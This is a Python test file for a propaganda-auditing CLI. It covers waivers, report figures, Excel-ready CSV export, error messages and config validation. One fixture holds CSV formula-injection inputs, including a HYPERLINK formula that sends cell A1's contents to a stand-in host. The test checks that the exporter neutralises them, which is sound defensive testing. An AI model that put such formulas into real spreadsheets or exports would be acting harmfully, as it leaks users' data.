"""Issue 21 (items 3, 5, 6, 11, 12, 13): figures that stay, waivers a unit can manage, CSV for Excel, messages."""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import http.server
import io
import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from lxml import html as lxml_html

from blindaje.audit.model import FindingRecord
from blindaje.cli import cli
from blindaje.store import Store, open_db
from conftest import ROOT, wait_for
from test_store import BOAST, NAME, SLOGAN, URL, night

REPO_CONFIG = ROOT / "config"
TODAY = dt.date.today()


def run(*args, env=None):
    return CliRunner().invoke(cli, [str(a) for a in args], env=env)


def one_line_error(res, *needles: str) -> None:
    assert res.exit_code == 2, (res.exit_code, res.output)
    lines = res.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), lines
    assert "Traceback" not in res.output
    for needle in needles:
        assert needle in lines[0], lines[0]


@pytest.fixture
def data(tmp_path) -> Path:
    """A database with one finished night (today): NAME and BOAST on /nota, SLOGAN on /otra."""
    data = tmp_path / "data"
    store = Store(open_db(data / "blindaje.db"))
    night(store, TODAY.isoformat(), {"nota": [NAME, BOAST], "otra": [SLOGAN]})
    store.db.conn.close()
    return data


def history(data: Path) -> list[dict]:
    return Store(open_db(data / "blindaje.db")).waiver_history()


# item 5: waivers -----------------------------------------------------------------------------------------------
def test_until_in_the_past_is_refused_and_nothing_is_written(data):
    yesterday = (TODAY - dt.timedelta(days=1)).isoformat()
    one_line_error(run("waive", NAME.id, "--reason", "x", "--until", yesterday, "--data", data),
                   f"--until {yesterday} is in the past")
    one_line_error(run("waive", NAME.id, "0000000000000000", "--reason", "x", "--data", data),
                   "no finding with id 0000000000000000")
    one_line_error(run("waive", NAME.id, "--data", data), "--reason is required")
    assert history(data) == [], "a refused command writes nothing, not even the ids that were right"


def test_waive_many_again_revoke_and_list_with_history(data):
    until = (TODAY + dt.timedelta(days=3)).isoformat()
    env = {"BLINDAJE_USER": "unidad"}
    res = run("waive", NAME.id, BOAST.id, "--reason", "Nota revisada", "--until", until, "--data", data, env=env)
    assert res.exit_code == 0, res.output
    assert res.output.splitlines() == [f"waived {NAME.id} until {until} by unidad",
                                       f"waived {BOAST.id} until {until} by unidad"]
    res = run("waive", NAME.id, "--reason", "Directorio de transparencia", "--data", data, env={"BLINDAJE_USER": "jefa"})
    assert res.exit_code == 0 and "(replaces the waiver by unidad of" in res.output, res.output
    res = run("waive", "--revoke", BOAST.id, "--data", data, env=env)
    assert res.exit_code == 0 and f"revoked the waiver of {BOAST.id}" in res.output, res.output
    one_line_error(run("waive", "--revoke", BOAST.id, "--data", data), f"finding {BOAST.id} has no waiver to revoke")
    # by rule + evidence (+ portal): case and spacing ignored; only open findings
    res = run("waive", "--rule", "propaganda", "--evidence", "avanza   CONTIGO", "--portal", "alfa",
              "--reason", "Lema institucional", "--until", until, "--data", data, env=env)
    assert res.exit_code == 0 and f"waived {SLOGAN.id} until {until}" in res.output, res.output
    one_line_error(run("waive", "--rule", "propaganda", "--evidence", "avanza contigo", "--reason", "x",
                       "--data", data), "no open finding of rule propaganda has the evidence 'avanza contigo'")

    listing = run("waivers", "--data", data)
    assert listing.exit_code == 0
    lines = listing.output.splitlines()
    name_line = next(line for line in lines if line.startswith(NAME.id))
    assert "«Ariadna Montiel»" in name_line and "by jefa" in name_line and "until no end" in name_line
    assert "Directorio de transparencia" in name_line
    assert not any(line.startswith(BOAST.id) for line in lines), "revoked: no longer listed"
    warnings = [line for line in lines if line.startswith("warning:")]
    assert warnings == [f"warning: the waiver of {SLOGAN.id} (propaganda «Avanza Contigo») ends in 3 days, on {until}: "
                        f"renew it with `blindaje waive {SLOGAN.id} --reason … --until …` or let it count again"]
    assert "history:" not in listing.output
    full = run("waivers", "--all", "--data", data).output
    past = full.split("history:\n", 1)[1].splitlines()
    assert [line.split()[1:3] for line in past] == [["waived", NAME.id], ["waived", BOAST.id], ["waived", NAME.id],
                                                    ["revoked", BOAST.id], ["waived", SLOGAN.id]]
    assert "Nota revisada" in past[0] and "by unidad" in past[0] and f"until {until}" in past[0]


def test_without_a_login_name_the_account_of_the_uid_is_recorded(data):
    env = {"BLINDAJE_USER": None, "USER": None, "LOGNAME": None}
    res = run("waive", NAME.id, "--reason", "x", "--data", data, env=env)
    assert res.exit_code == 0, res.output
    try:
        expected = pwd.getpwuid(os.getuid()).pw_name
    except KeyError:
        expected = f"uid {os.getuid()}"
    assert res.output.strip().endswith(f"by {expected}") and "unknown" not in res.output
    assert history(data)[0]["by"] == expected


# item 3: a night's figures ------------------------------------------------------------------------------------
def test_later_waivers_do_not_change_an_earlier_nights_figures(data):
    index = data / "reports" / "index.html"
    until = (TODAY + dt.timedelta(days=2)).isoformat()
    assert run("waive", NAME.id, BOAST.id, "--reason", "Revisado", "--until", until, "--data", data,
               env={"BLINDAJE_USER": "unidad"}).exit_code == 0
    row = lxml_html.fromstring(index.read_text("utf-8")).xpath("//table[@id='runs']/tbody/tr")[0]
    cells = [" ".join(td.text_content().split()) for td in row.xpath("td")]
    assert cells[-3:] == ["3", "0", "0"], "new / fixed / waived of that night, as it was told that night"
    export = json.loads(run("export", "--data", data).output)
    assert {f["status"] for f in export} == {"new"}
    page = lxml_html.fromstring((data / "reports" / "run-1" / "index.html").read_text("utf-8"))
    assert page.get_element_by_id("findings-new").text_content().strip() == "3"
    assert page.get_element_by_id("findings-waived").text_content().strip() == "0"
    later = " ".join(page.get_element_by_id("later-waivers").getnext().text_content().split())
    assert NAME.id in later and BOAST.id in later and "unidad" in later, later
    expiring = " ".join(page.get_element_by_id("expiring-waivers").getnext().text_content().split())
    assert NAME.id in expiring and until in expiring
    portal = lxml_html.fromstring((data / "reports" / "run-1" / "portal-alfa.html").read_text("utf-8"))
    assert "dispensado después por unidad" in portal.get_element_by_id(f"f-{NAME.id}").text_content()
    # the next night counts them as waived, and its console line warns that they end soon
    from blindaje.runner import RunOutcome, summary_line

    store = Store(open_db(data / "blindaje.db"))
    two = night(store, (TODAY + dt.timedelta(days=1)).isoformat(), {"nota": [NAME, BOAST], "otra": [SLOGAN]})
    counts = store.run_status_counts()
    assert (counts[1]["new"], counts[1]["waived"], counts[two]["waived"], counts[two]["open"]) == (3, 0, 2, 1)
    line = summary_line(RunOutcome(two, store.run(two), Path("r.html")), store)
    assert "(0 new, 1 open, 0 fixed, 2 waived)" in line
    assert line.endswith(f"; warning: 2 waiver(s) expire within 7 days, the first on {until} (blindaje waivers)")


# item 6: CSV for Excel -----------------------------------------------------------------------------------------
HOSTILE = FindingRecord.from_row({
    "id": "f" * 16, "portal": "alfa", "url": URL + "hoja", "rule": "propaganda", "severity": "medium",
    "evidence": '=HYPERLINK("http://x.example/?"&A1,"Vota")', "location": "p", "kind": "p",
    "context": "@SUM(1+1) «Vota por Morena», ñandú", "message": "-1 Retire la referencia.",
    "legal_basis": "+Art. 134 CPEUM", "grp": "violation", "data": {}})


@pytest.fixture
def hostile_data(tmp_path) -> Path:
    data = tmp_path / "data"
    store = Store(open_db(data / "blindaje.db"))
    night(store, TODAY.isoformat(), {"hoja": [HOSTILE], "nota": [NAME]})
    store.waive(NAME.id, reason="\tDirectorio", by="unidad", created_at=f"{TODAY}T09:00:00-06:00", until=None)
    return data


def test_csv_has_a_bom_neutralises_formulas_and_keeps_spec_columns(hostile_data, tmp_path):
    out = tmp_path / "hallazgos.csv"
    res = run("export", "--format", "csv", "--output", out, "--data", hostile_data)
    assert res.exit_code == 0, res.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM: Excel reads the accents"
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(rows[0]) == ["id", "run_id", "portal", "url", "rule", "severity", "status", "evidence", "location",
                             "message", "legal_basis", "first_seen", "last_seen"], "SPEC §6, unchanged"
    row = next(r for r in rows if r["id"] == HOSTILE.id)
    assert row["evidence"] == "'" + HOSTILE.evidence and row["message"] == "'-1 Retire la referencia."
    assert row["legal_basis"] == "'+Art. 134 CPEUM" and row["severity"] == "medium" and row["run_id"] == "1"
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert run("export", "--format", "csv", "--data", hostile_data).output.startswith("\ufeffid,run_id,")


def test_each_portals_spreadsheet_in_the_report_is_the_spanish_export_of_its_findings(hostile_data, tmp_path):
    """The run's report writes one Spanish CSV per portal from the findings it already read (the rule packs read
    once for all portals): the same rows `export --lang es` gives for that portal."""
    from blindaje.reports.pages import render_run

    store = Store(open_db(hostile_data / "blindaje.db"))
    render_run(store, 1, tmp_path / "reports", now=dt.datetime.now(dt.timezone.utc))
    export = run("export", "--format", "csv", "--lang", "es", "--data", hostile_data)
    assert export.exit_code == 0, export.output
    exported = list(csv.DictReader(io.StringIO(export.output.removeprefix("\ufeff"))))
    sheets = sorted((tmp_path / "reports" / "run-1").glob("*.csv"))
    assert sheets
    written = [row for sheet in sheets for row in
               csv.DictReader(io.StringIO(sheet.read_text("utf-8").removeprefix("\ufeff")))]
    key = lambda r: r["id"]  # noqa: E731
    assert sorted(written, key=key) == sorted(exported, key=key) and len(written) == 2
    assert all(r["qué hacer"] for r in written)


def test_csv_in_spanish_has_spanish_headers_values_and_more_columns(hostile_data):
    res = run("export", "--format", "csv", "--lang", "es", "--data", hostile_data, "--config", REPO_CONFIG)
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.output.removeprefix("\ufeff"))))
    assert list(rows[0]) == ["id", "ejecución", "portal", "url", "regla", "severidad", "estado", "evidencia",
                             "ubicación", "contexto", "mensaje", "qué hacer", "fundamento legal",
                             "visto por primera vez", "visto por última vez", "motivo de la dispensa",
                             "dispensado por", "dispensa hasta"]
    hostile = next(r for r in rows if r["id"] == HOSTILE.id)
    assert (hostile["regla"], hostile["severidad"], hostile["estado"]) == ("Propaganda política o electoral",
                                                                             "media", "nuevo")
    assert hostile["contexto"] == "'@SUM(1+1) «Vota por Morena», ñandú"
    assert hostile["qué hacer"].startswith("Retire la referencia partidista o electoral")
    name = next(r for r in rows if r["id"] == NAME.id)
    assert (name["severidad"], name["motivo de la dispensa"], name["dispensado por"], name["dispensa hasta"]) == (
        "alta", "'\tDirectorio", "unidad", "")
    pages = run("export", "--pages", "--format", "csv", "--lang", "es", "--data", hostile_data).output
    header = pages.removeprefix("\ufeff").splitlines()[0]
    assert header == "portal,url,url final,estado HTTP,resultado,motivo,hash del contenido,fecha de consulta"
    assert ",auditada," in pages


def test_export_into_a_missing_folder_is_one_line_and_writes_nothing(hostile_data, tmp_path):
    target = tmp_path / "no-existe" / "h.csv"
    one_line_error(run("export", "--format", "csv", "--output", target, "--data", hostile_data),
                   f"folder {target.parent} does not exist")
    assert not target.parent.exists()


# item 11: messages that say what to do ------------------------------------------------------------------------
class Answers(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"<html><body><p>Consulta los requisitos.</p></body></html>"
        self.send_response(404 if self.path.startswith("/falta") else 200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def server():
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answers)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_check_messages_and_exit_codes(server, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    config = ("--config", REPO_CONFIG)
    res = run("check", "www.gob.mx/bienestar/prensa", *config)
    assert res.exit_code == 3, res.output
    assert res.stdout.strip() == ("www.gob.mx/bienestar/prensa: NOT AUDITED (no such file; for a web page give its "
                                  "scheme: https://www.gob.mx/bienestar/prensa)")
    url = f"http://127.0.0.1:{closed_port()}/"
    res = run("check", url, *config)
    assert res.exit_code == 3 and "URLError" not in res.output and "urlopen" not in res.output
    assert "the server refused the connection: check that the site is online" in res.output
    res = run("check", server + "/falta", *config)
    assert res.exit_code == 3 and "the server answered HTTP 404 (Not Found): check the address" in res.output
    res = run("check", server + "/bien", *config)
    assert res.exit_code == 0, res.output
    page = tmp_path / "b.html"
    page.write_text("<html><body><h1>Inauguramos el hospital más grande de la historia</h1></body></html>", "utf-8")
    res = run("check", str(page), url, *config)
    assert res.exit_code == 1, "something found: 1, even when another target could not be audited"
    data = json.loads(run("check", url, "--format", "json", *config).output)
    assert data[0]["error"].startswith("the server refused the connection")


def test_unknown_keys_get_did_you_mean_and_list_items_are_named(tmp_path):
    config = tmp_path / "config"
    shutil.copytree(REPO_CONFIG, config)
    portals = yaml.safe_load((config / "portals.yaml").read_text("utf-8"))
    portals["portals"][0]["max_page"] = 10
    portals["portals"][0]["max_depth"] = "hondo"
    (config / "portals.yaml").write_text(yaml.safe_dump(portals, allow_unicode=True), "utf-8")
    settings = yaml.safe_load((config / "settings.yaml").read_text("utf-8"))
    settings["crawl"]["concurency_per_host"] = 3
    (config / "settings.yaml").write_text(yaml.safe_dump(settings, allow_unicode=True), "utf-8")
    res = run("validate", "--config", config)
    assert res.exit_code == 2
    lines = res.stderr.splitlines()
    assert ("configuration error: portals.yaml: portals.0.max_page: unknown key; did you mean 'max_pages'? "
            "(in the item named 'bienestar')") in lines, lines
    assert any(line.startswith("configuration error: portals.yaml: portals.0.max_depth: ")
               and line.endswith("(in the item named 'bienestar')") for line in lines), lines
    assert ("configuration error: settings.yaml: crawl.concurency_per_host: unknown key; did you mean "
            "'concurrency_per_host'?") in lines, lines


def test_unknown_portal_lists_the_valid_names(tmp_path):
    res = run("crawl", "--portal", "nope", "--force", "--config", REPO_CONFIG, "--data", tmp_path / "d")
    names = [p["name"] for p in yaml.safe_load((REPO_CONFIG / "portals.yaml").read_text("utf-8"))["portals"]]
    one_line_error(res, f"unknown portal(s): nope (portals.yaml has: {', '.join(names)})")


@pytest.mark.slow
def test_schedule_says_when_the_next_run_is(tmp_path):
    proc = subprocess.Popen([sys.executable, "-m", "blindaje.cli", "schedule", "--config", str(REPO_CONFIG),
                             "--data", str(tmp_path / "d")], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        lines: list[str] = []
        reader = threading.Thread(target=lambda: lines.append(proc.stdout.readline()), daemon=True)
        reader.start()
        wait_for(lambda: lines, 60, "the scheduler's first line")
    finally:
        proc.terminate()
        proc.wait(timeout=30)
    time = yaml.safe_load((REPO_CONFIG / "settings.yaml").read_text("utf-8")).get("schedule", {}).get("time", "02:30")
    line = lines[0].strip()
    assert line.startswith("scheduler started: next crawl 20") and f"then nightly at {time} " in line, line
    assert "(UTC-0" in line and line.endswith("SIGTERM or Ctrl-C stops it")


# item 12: check's configuration -------------------------------------------------------------------------------
def test_check_with_a_missing_config_is_an_error_and_without_one_says_so(tmp_path, monkeypatch):
    page = tmp_path / "p.html"
    page.write_text("<html><body><p>Horario de atención.</p></body></html>", "utf-8")
    one_line_error(run("check", page, "--config", tmp_path / "no-existe"),
                   f"configuration directory {tmp_path / 'no-existe'} does not exist")
    one_line_error(CliRunner().invoke(cli, ["check", str(page)], env={"BLINDAJE_CONFIG": str(tmp_path / "otra")}),
                   "does not exist")
    monkeypatch.chdir(tmp_path)
    res = CliRunner().invoke(cli, ["check", str(page)], env={"BLINDAJE_CONFIG": None})
    assert res.exit_code == 0, res.output
    assert res.stderr.splitlines() == ["note: no configuration directory ./config (give --config DIR): checking "
                                       "with the shipped rule packs only, without officials' names or portraits"]


# item 13: --config and --data everywhere ----------------------------------------------------------------------
def test_every_command_takes_the_pair_and_ignores_what_it_does_not_use(data, tmp_path):
    """A wrapper passes the same pair to every command: those that do not read one accept and ignore it."""
    for name, command in cli.commands.items():
        opts = {o for p in command.params for o in getattr(p, "opts", [])}
        assert {"--config", "--data"} <= opts, name
    unused_config = ("--config", tmp_path / "no-config-here", "--data", data)
    for command in (["waivers"], ["report"], ["export"], ["export", "--format", "csv"]):
        res = run(*command, *unused_config)
        assert res.exit_code == 0, (command, res.output)
    res = run("calendar", "--date", "2027-05-01", "--config", REPO_CONFIG, "--data", tmp_path / "no-data-here")
    assert res.exit_code == 0 and not (tmp_path / "no-data-here").exists()


def test_waive_a_template_problem_as_one(tmp_path):
    """Item 5 with item 1: the group id the portal report shows (`blindaje waive --group g…`) waives all its pages."""
    from blindaje.store.groups import group_id

    def banner(i: int) -> FindingRecord:
        url = f"{URL}n/{i}"
        return FindingRecord.from_row({
            "id": hashlib.sha256(url.encode()).hexdigest()[:16], "portal": "alfa", "url": url, "rule": "propaganda",
            "severity": "high", "evidence": "Avanza Contigo", "location": "header > div.banner", "kind": "p",
            "context": "Gobierno · ⟦Avanza Contigo⟧", "message": "Retire el lema.", "legal_basis": "Art. 134 CPEUM",
            "grp": "violation", "data": {}})

    data = tmp_path / "data"
    store = Store(open_db(data / "blindaje.db"))
    banners = [banner(i) for i in range(4)]
    night(store, TODAY.isoformat(), {f"n/{i}": [b] for i, b in enumerate(banners)} | {"nota": [NAME]})
    gid = group_id(store.findings(1)[0])
    res = run("waive", "--group", gid, "--reason", "Lema del escudo oficial", "--data", data,
              env={"BLINDAJE_USER": "unidad"})
    assert res.exit_code == 0, res.output
    assert sorted(line.split()[1] for line in res.output.splitlines()) == sorted(b.id for b in banners)
    assert NAME.id not in res.output
    one_line_error(run("waive", "--group", "g000000000000", "--reason", "x", "--data", data),
                   "no open finding belongs to the template problem g000000000000")
    one_line_error(run("waive", "--group", gid, "--rule", "propaganda", "--reason", "x", "--data", data),
                   "--group selects the findings by itself")
